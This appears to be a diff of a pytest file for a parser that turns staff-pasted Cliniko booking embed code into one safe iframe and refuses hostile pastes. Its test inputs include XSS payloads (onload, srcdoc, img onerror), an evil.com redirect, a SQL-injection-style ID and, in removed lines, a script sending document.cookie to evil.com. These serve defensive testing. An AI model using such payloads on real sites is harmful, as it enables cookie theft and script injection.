@@ -1,16 +1,27 @@
-"""Cliniko's embed code: the documented snippet is accepted and reduced; hostile variants are refused."""
+"""Cliniko's embed code: read liberally (any wrapper, quoting or script), rendered as one canonical iframe."""
 
 from __future__ import annotations
 
 import pytest
 
-from oncord.bookings import embed as embed_module
-from oncord.bookings.embed import BookingEmbed, InvalidEmbed, parse_embed_code
+from oncord.bookings.embed import BookingEmbed, InvalidEmbed, parse_embed_code, read_embed_code
 from oncord.bookings.urls import BookingsUrl
-from tests.bookings.samples import DOCUMENTED_CODE, ELEMENT_ID, IFRAME, SCRIPT, SRC, code_with
+from tests.bookings.samples import (
+    CANONICAL,
+    CANONICAL_WITH_PAYMENT,
+    DOCUMENTED_CODE,
+    ELEMENT_ID,
+    IFRAME,
+    PAYMENT_VARIANT,
+    SCRIPT,
+    SRC,
+    VARIANTS,
+    code_with,
+)
 
 GOOD = SRC
 OTHER_CLINIC = "https://rival.au2.cliniko.com/bookings?embedded=true"
+SUNNYSIDE = frozenset({("sunnyside", "au1")})
 
 
 def iframe(src: str = GOOD, extra: str = "") -> str:
@@ -19,7 +30,7 @@ def iframe(src: str = GOOD, extra: str = "") -> str:
             f"height='1000' style='pointer-events: auto;'{extra}></iframe>")
 
 
-def test_documented_code_is_accepted_and_reduced_to_values() -> None:
+def test_documented_code_is_reduced_to_values() -> None:
     """The snippet from §9 gives its host, id and height, and nothing else is kept."""
     embed = parse_embed_code(DOCUMENTED_CODE)
     assert embed.url == BookingsUrl(subdomain="sunnyside", shard="au1")
@@ -30,44 +41,79 @@ def test_documented_code_is_accepted_and_reduced_to_values() -> None:
     assert embed.origin == "https://sunnyside.au1.cliniko.com"
 
 
+@pytest.mark.parametrize("code", VARIANTS.values(), ids=VARIANTS.keys())
+def test_every_realistic_variant_becomes_the_one_canonical_iframe(code: str) -> None:
+    """Wrappers, quoting, attribute order and the resize script do not matter; the rendered iframe is one."""
+    reading = read_embed_code(code, allowed_accounts=SUNNYSIDE)
+    assert reading.iframe == CANONICAL
+    assert "width" not in reading.iframe and "<script" not in reading.iframe
+
+
+def test_payment_permission_is_the_one_permission_passed_on() -> None:
+    """allow="payment" survives; any other permission the paste asks for does not."""
+    assert read_embed_code(PAYMENT_VARIANT).iframe == CANONICAL_WITH_PAYMENT
+    assert read_embed_code(iframe(extra=" allow='camera; microphone'")).iframe == CANONICAL
+
+
+@pytest.mark.parametrize(
+    ("code", "kept"),
+    [
+        (IFRAME, "Kept Cliniko's booking widget for sunnyside.au1.cliniko.com."),
+        (DOCUMENTED_CODE, "Kept Cliniko's booking widget for sunnyside.au1.cliniko.com and left out the "
+                          "<script>; this page resizes the widget itself."),
+        (VARIANTS["wrapped-in-a-div"], "Kept Cliniko's booking widget for sunnyside.au1.cliniko.com and left "
+                                       "out the <script> and <div>; this page resizes the widget itself."),
+        (code_with(iframe(GOOD + "&business_id=5", " allow='payment'")),
+         "Kept Cliniko's booking widget for sunnyside.au1.cliniko.com (business 5, online payments allowed) "
+         "and left out the <script>; this page resizes the widget itself."),
+        (iframe("https://www.youtube.com/embed/x") + IFRAME,
+         "Kept Cliniko's booking widget for sunnyside.au1.cliniko.com and left out the 1 other iframe."),
+    ],
+    ids=["bare-iframe", "documented", "wrapped", "preselected-with-payment", "beside-a-video"],
+)
+def test_staff_are_told_in_one_sentence_what_was_kept(code: str, kept: str) -> None:
+    """The sentence names the host, what the widget preselects, and what was dropped."""
+    assert read_embed_code(code).kept == kept
+
+
 @pytest.mark.parametrize(
     ("code", "expected"),
     [
-        (IFRAME, "https://sunnyside.au1.cliniko.com/bookings?embedded=true"),
         (iframe("https://acme.cliniko.com/bookings?embedded=true"), "https://acme.cliniko.com/bookings?embedded=true"),
-        (iframe(GOOD + "&business_id=331656748404315&practitioner_id=12"),
+        (iframe(GOOD + "&amp;business_id=331656748404315&amp;practitioner_id=12"),
          GOOD + "&business_id=331656748404315&practitioner_id=12"),
         (iframe("https://acme.uk2.cliniko.com/bookings/?appointment_type_id=7&embedded=true"),
          "https://acme.uk2.cliniko.com/bookings?embedded=true&appointment_type_id=7"),
+        (iframe("https://sunnyside.au1.cliniko.com/bookings"), GOOD),
         (f'<IFRAME ID="{ELEMENT_ID}" SRC="{GOOD}" WIDTH="100%" HEIGHT="1200px"></IFRAME>', GOOD),
-        ("  \n" + DOCUMENTED_CODE + "\n\n", GOOD),
-        (SCRIPT + "\n" + IFRAME, GOOD),
+        (SCRIPT + "\n" + IFRAME + IFRAME, GOOD),
+        (f"<iframe src='{GOOD}'>", GOOD),
     ],
-    ids=["iframe-only", "legacy-au1-host", "preselected", "trailing-slash-and-order", "upper-case", "padded",
-         "script-first"],
+    ids=["legacy-au1-host", "preselected-with-entities", "trailing-slash-and-order", "no-embedded-flag",
+         "upper-case", "script-first-and-pasted-twice", "unclosed"],
 )
-def test_accepted_variants(code: str, expected: str) -> None:
-    """Harmless variations of Cliniko's code are accepted and rebuilt canonically."""
+def test_addresses_are_rebuilt_canonically(code: str, expected: str) -> None:
+    """The iframe address is rebuilt from its checked parts, never echoed as pasted."""
     assert parse_embed_code(code).src == expected
 
 
-def test_payment_permission_is_kept() -> None:
-    """Newer copies ask for allow="payment"; that is the one permission passed on."""
-    assert parse_embed_code(code_with(iframe(extra=" allow='payment'"))).allow_payment is True
-
-
-def test_height_is_clamped_to_a_sane_range() -> None:
+def test_height_comes_from_the_attribute_or_style_and_is_clamped() -> None:
     """A silly height cannot make the widget vanish or fill a mile of page."""
     assert parse_embed_code(iframe().replace("height='1000'", "height='5'")).height == 200
     assert parse_embed_code(iframe().replace("height='1000'", "height='99999'")).height == 10_000
+    assert parse_embed_code(f"<iframe src='{GOOD}' style='border:0; height: 1400px'></iframe>").height == 1400
+    assert parse_embed_code(f"<iframe src='{GOOD}' height='100%'></iframe>").height == 1000
 
 
-def test_canonical_code_parses_back_to_the_same_embed() -> None:
+def test_an_id_that_is_not_clinikos_is_dropped() -> None:
+    """Only Cliniko's cliniko-<digits> id is kept; another id cannot collide with the page's own."""
+    assert parse_embed_code(iframe().replace(ELEMENT_ID, "main-nav")).element_id is None
+
+
+def test_canonical_code_reads_back_to_the_same_embed() -> None:
     """What the editor shows after Apply can be applied again unchanged."""
     embed = parse_embed_code(code_with(iframe(GOOD + "&business_id=5", " allow='payment'")))
-    again = parse_embed_code(embed.canonical_code())
-    assert again == embed
-    assert "<script" not in embed.canonical_code()
+    assert parse_embed_code(embed.canonical_code()) == embed
 
 
 def test_stored_values_are_checked_again() -> None:
@@ -84,12 +130,12 @@ def test_stored_values_are_checked_again() -> None:
 
 def test_allow_list_admits_the_clinics_account_in_either_host_form() -> None:
     """An au1 clinic's embed may use the sharded or the legacy host."""
-    allowed = frozenset({("sunnyside", "au1")})
-    assert parse_embed_code(DOCUMENTED_CODE, allowed_accounts=allowed)
+    assert parse_embed_code(DOCUMENTED_CODE, allowed_accounts=SUNNYSIDE)
     assert parse_embed_code(iframe("https://sunnyside.cliniko.com/bookings?embedded=true"),
-                            allowed_accounts=allowed)
+                            allowed_accounts=SUNNYSIDE)
 
 
+WHERE = "Settings → Online bookings"
 HOSTILE = [
     # (id, code, words the message must contain)
     ("other-host", iframe("https://evil.example.com/bookings?embedded=true"), "not a Cliniko bookings host"),
@@ -110,61 +156,42 @@ HOSTILE = [
     ("other-path", iframe("https://sunnyside.au1.cliniko.com/patients/1"), "/bookings"),
     ("extra-parameter", iframe(GOOD + "&redirect_to=https://evil.com"), "'redirect_to'"),
     ("non-numeric-id", iframe(GOOD + "&business_id=1%20OR%201=1"), "business_id must be"),
-    ("onload-handler", code_with(iframe(extra=" onload='alert(1)'")), "event handler (onload"),
-    ("srcdoc", code_with(iframe(extra=" srcdoc='<script>alert(1)</script>'")), "'srcdoc'"),
-    ("sandbox-escape-attr", code_with(iframe(extra=" allow='camera; microphone'")), "camera, microphone"),
-    ("style-url", code_with(iframe().replace("pointer-events: auto;", "background:url(https://evil.com/x)")),
-     "'background'"),
-    ("duplicate-src", iframe(GOOD).replace("<iframe ", "<iframe src='https://evil.com/' "), "src twice"),
-    ("extra-img", DOCUMENTED_CODE + "<img src=x onerror=alert(1)>", "<img>"),
-    ("wrapper-div", f"<div class='booking'>{DOCUMENTED_CODE}</div>", "<div>"),
-    ("svg-script", DOCUMENTED_CODE + "<svg><script>alert(1)</script></svg>", "<svg>"),
-    ("script-src", IFRAME + "<script src='https://sunnyside.au1.cliniko.com/x.js'></script>", "loads a file"),
-    ("script-fetch", code_with(script="<script>fetch('https://evil.com/?c=' + document.cookie)</script>"),
-     "'fetch'"),
-    ("script-redirect",
-     code_with(script=SCRIPT.replace("scrollIntoView()", "scrollIntoView(); window.location = 'x'")),
-     "'location'"),
-    ("script-other-string", code_with(script=SCRIPT.replace("'string'", "'https://evil.com'")), "https://evil.com"),
-    ("script-template-literal", code_with(script="<script>window.addEventListener(`message`, eval)</script>"),
-     "'`'"),
-    ("script-in-iframe", f"<iframe src='{GOOD}'><script>alert(1)</script></iframe>", "inside the <iframe>"),
-    ("two-iframes", IFRAME + iframe(OTHER_CLINIC), "more than one <iframe>"),
-    ("comment", DOCUMENTED_CODE + "<!-- <script>alert(1)</script> -->", "comment"),
-    ("text-outside", "Book here: " + DOCUMENTED_CODE, "text outside"),
-    ("truncated", f"<iframe src='{GOOD}'", "breaks off"),
-    ("unclosed-iframe", f"<iframe src='{GOOD}'>", "not closed"),
-    ("self-closing", f"<iframe src='{GOOD}'/>", "self-closing"),
-    ("a-link", f"<a href='{GOOD}'>Book</a>", "<a>"),
-    ("url-not-code", GOOD, "web address, not embed code"),
-    ("nothing", "   ", "Paste the code"),
+    ("embed-with-fragment", iframe(GOOD + "#x"), "# part"),
+    ("onload-handler", code_with(iframe(extra=" onload='alert(1)'")), "event handler (onload=…)"),
+    ("onload-in-a-wrapper", f"<div>{iframe(extra=' ONLOAD=alert(1)')}</div>", "event handler (onload=…)"),
+    ("srcdoc", code_with(iframe(extra=" srcdoc='<script>alert(1)</script>'")), "srcdoc"),
+    ("srcdoc-only", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "srcdoc"),
+    ("duplicate-src", iframe(GOOD).replace("<iframe ", "<iframe src='https://evil.com/' "), "src) twice"),
+    ("iframe-only-inside-a-script", f"<script>document.write(\"{IFRAME}\")</script>",
+     "no Cliniko booking iframe"),
+    ("iframe-only-in-a-comment", f"<!-- {IFRAME} -->", "no Cliniko booking iframe"),
+    ("a-link", f"<a href='{GOOD}'>Book</a>", "no Cliniko booking iframe"),
+    ("script-only", SCRIPT, "no Cliniko booking iframe"),
+    ("url-not-code", GOOD, "web address, not the embed code"),
+    ("nothing", "   ", "Nothing was pasted"),
+    ("overlong", DOCUMENTED_CODE * 40, "far longer"),
 ]
 
 
 @pytest.mark.parametrize(("code", "expected"), [case[1:] for case in HOSTILE],
                          ids=[case[0] for case in HOSTILE])
-def test_hostile_variants_are_refused_with_a_message_naming_the_problem(code: str, expected: str) -> None:
-    """Other hosts, handlers, script URLs and extra markup never get through, and staff learn why."""
+def test_hostile_code_is_refused_naming_the_problem_and_what_to_copy(code: str, expected: str) -> None:
+    """Other hosts, script URLs, handlers and srcdoc never get through; staff learn why and what to copy."""
     with pytest.raises(InvalidEmbed) as refused:
-        parse_embed_code(code)
+        read_embed_code(code)
     assert expected in str(refused.value)
+    assert WHERE in str(refused.value)
 
 
 def test_another_clinics_account_is_refused_when_the_clinic_is_known() -> None:
     """With the clinic's bookings host known, a different Cliniko account is refused by name."""
     with pytest.raises(InvalidEmbed, match="rival.au2.cliniko.com.*sunnyside.au1.cliniko.com"):
-        parse_embed_code(iframe(OTHER_CLINIC), allowed_accounts=frozenset({("sunnyside", "au1")}))
+        read_embed_code(iframe(OTHER_CLINIC), allowed_accounts=SUNNYSIDE)
+    # Beside the clinic's own widget, another account's iframe is simply left out.
+    assert read_embed_code(IFRAME + iframe(OTHER_CLINIC), allowed_accounts=SUNNYSIDE).iframe == CANONICAL
 
 
-def test_overlong_code_is_refused() -> None:
-    """A huge paste is refused before parsing."""
-    with pytest.raises(InvalidEmbed, match="far longer"):
-        parse_embed_code(DOCUMENTED_CODE * 20)
-
-
-def test_the_second_parser_must_agree_on_the_address() -> None:
-    """If html5ever (nh3) read another address than html.parser, the code is refused as ambiguous."""
-    mismatched = BookingEmbed(url=BookingsUrl(subdomain="rival", shard="au2"))
-    with pytest.raises(InvalidEmbed, match="browsers could read differently"):
-        embed_module._cross_check_with_nh3(DOCUMENTED_CODE, mismatched)
-    embed_module._cross_check_with_nh3(DOCUMENTED_CODE, parse_embed_code(DOCUMENTED_CODE))
+def test_two_different_widgets_in_one_paste_are_refused() -> None:
+    """Which one staff meant is not guessed: each widget gets a block of its own."""
+    with pytest.raises(InvalidEmbed, match="2 different booking widgets.*one booking widget block for each"):
+        read_embed_code(IFRAME + iframe(OTHER_CLINIC))
